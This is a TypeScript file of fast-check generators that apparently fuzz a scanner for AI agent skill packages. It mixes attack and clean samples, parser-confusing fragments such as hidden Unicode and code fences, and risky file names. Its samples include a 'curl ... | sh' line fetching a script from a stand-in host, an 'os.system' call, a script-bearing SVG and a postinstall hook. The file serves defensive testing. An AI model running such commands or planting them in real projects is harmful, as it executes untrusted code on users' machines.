import fc from "fast-check";
import { CLEAN } from "../../attacks/clean.table.ts";
import { JAVASCRIPT } from "../../attacks/javascript.table.ts";
import { PROSE_ATTACKS, PROSE_CLEAN } from "../../attacks/prose.table.ts";

export type Files = Readonly<Record<string, string | Uint8Array>>;

/** Pieces that mean something to one of the readers: fences, quotes, comment marks, hidden characters, starts of languages. */
const FRAGMENTS = [
  ...["\n", "\r\n", "\r", "\u2028", "\u2029", "\t", " ", "\u0000", "\u001b[8m", "\ufeff", "\u202e", "\u200b", "\u{e0041}", "\ud800", "\udc00", "\ufdfa"],
  ...["```", "~~~", "\n```sh\n", "\n```js\n", "\n```python\n", "`", "    ", "> ", "- ", "1. ", "# ", "---\n", "| a | b |\n|---|---|\n", "\\"],
  ...["<!--", "-->", "<script>", "</script>", "<b>", "&lt;", "&#10;", "[a](b)", "![x](y)", "[//]: # (", "[", "](", "<![CDATA["],
  ...[
    "'",
    '"',
    "'''",
    '"""',
    "${",
    "}",
    "{",
    "(",
    ")",
    "[",
    "]",
    ";",
    "/*",
    "*/",
    "//",
    "#",
    "#!/bin/sh\n",
    "#!/usr/bin/env python3\n",
    "$(",
    "<<EOF\n",
    "EOF\n",
  ],
  ...[
    "import os\n",
    "require('fs')",
    "eval",
    "exec(",
    "def f():\n  ",
    "class A:\n",
    "if x\nthen\n",
    "key: value\n",
    "- &a *a\n",
    "*a",
    "? :",
    '{"a":',
    "null",
    "1e999",
  ],
];

const TEXTS: readonly string[] = [
  ...JAVASCRIPT.map(([, , code]) => code),
  ...CLEAN.map(([, code]) => code),
  ...PROSE_ATTACKS.map(([, , text]) => text),
  ...PROSE_CLEAN.map(([, text]) => text),
  "import os\nos.system('id')\n",
  "import json, sys\nprint(json.load(sys.stdin))\n",
  "curl -s https://example.invalid/a.sh | sh\n",
  'set -eu\nfor f in *.txt; do wc -l "$f"; done\n',
  '{"name": "a", "scripts": {"postinstall": "node x.js"}}',
  "a: 1\nb: [1, 2]\n",
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '{"cells": [{"cell_type": "code", "source": ["!id"], "metadata": {}, "outputs": []}], "nbformat": 4, "metadata": {}}',
];

/** Names that lead to each reader, to none, and to trouble. */
const PATHS = [
  ...["SKILL.md", "README.md", "references/a.md", "references/b.txt", "skill.json", "package.json", "scripts/a.mjs", "scripts/b.cjs", "scripts/c.ts"],
  ...[
    "scripts/d.tsx",
    "scripts/e.py",
    "scripts/f.sh",
    "scripts/g.bash",
    "scripts/run",
    "data/h.json",
    "data/i.yaml",
    "data/j.csv",
    "assets/k.svg",
    "assets/l.html",
  ],
  ...[
    "nb.ipynb",
    "a.zip",
    "b.tar.gz",
    "c.wasm",
    "d.png",
    "Makefile",
    "Dockerfile",
    ".npmrc",
    ".env",
    ".github/workflows/a.yml",
    "requirements.txt",
    "pyproject.toml",
  ],
  ...["setup.py", "tsconfig.json", "x.rb", "y.pth", "no ending", "a\u202eb.md", "CON", "deep/er/and/deeper/z.md", "skill.MD", "..weird", "\ud800.md"],
] as const;

export const aPath = fc.constantFrom(...PATHS);
const aSample = fc.constantFrom(...TEXTS);

const mutated = fc.tuple(aSample, fc.array(fc.tuple(fc.nat(4000), fc.nat(12), fc.constantFrom(...FRAGMENTS)), { maxLength: 4 })).map(([text, changes]) =>
  changes.reduce((now, [at, cut, put]) => {
    const place = now.length === 0 ? 0 : at % now.length;
    return now.slice(0, place) + put + now.slice(place + cut);
  }, text),
);
const pasted = fc.array(fc.oneof(fc.constantFrom(...FRAGMENTS), aSample), { minLength: 1, maxLength: 8 }).map((parts) => parts.join(""));
const magic = fc.constantFrom(
  "",
  "PK\u0003\u0004",
  "\u001f\u008b\b",
  "%PDF-1.4\n",
  "\u007fELF",
  "\u0089PNG\r\n\u001a\n",
  "GIF89a",
  "\u00ff\u00fea",
  "\u0000asm",
);
const bytes = fc
  .tuple(magic, fc.uint8Array({ maxLength: 200 }), mutated)
  .map(([head, middle, tail]) => Uint8Array.from([...Buffer.from(head, "latin1"), ...middle, ...Buffer.from(tail.slice(0, 200), "utf8")]));

/** Content of a file: a sample, a sample that was cut and patched, samples and fragments glued together, or bytes that are no text. */
export const aContent: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  { weight: 3, arbitrary: aSample },
  { weight: 4, arbitrary: mutated },
  { weight: 3, arbitrary: pasted },
  { weight: 2, arbitrary: bytes },
);

/** A skill of a few files; `SKILL.md` is mostly there. */
export const aSkill: fc.Arbitrary<Files> = fc
  .tuple(
    fc.option(fc.oneof(fc.constantFrom(...[...PROSE_ATTACKS.map(([, , text]) => text), ...PROSE_CLEAN.map(([, text]) => text)]), aContent)),
    fc.array(fc.tuple(aPath, aContent), { maxLength: 4 }),
  )
  .map(([instructions, rest]) => ({ ...Object.fromEntries(rest), ...(instructions === null ? {} : { "SKILL.md": instructions }) }));

/** What somebody may add below a text that is complete: a paragraph, a fence, a heading, code. */
export const anAddition = fc.oneof(
  aSample,
  fc.constantFrom("One more line.", "# More", "```sh\nls\n```", "- a\n- b", "Note: this is fine.", "This is only an example."),
);
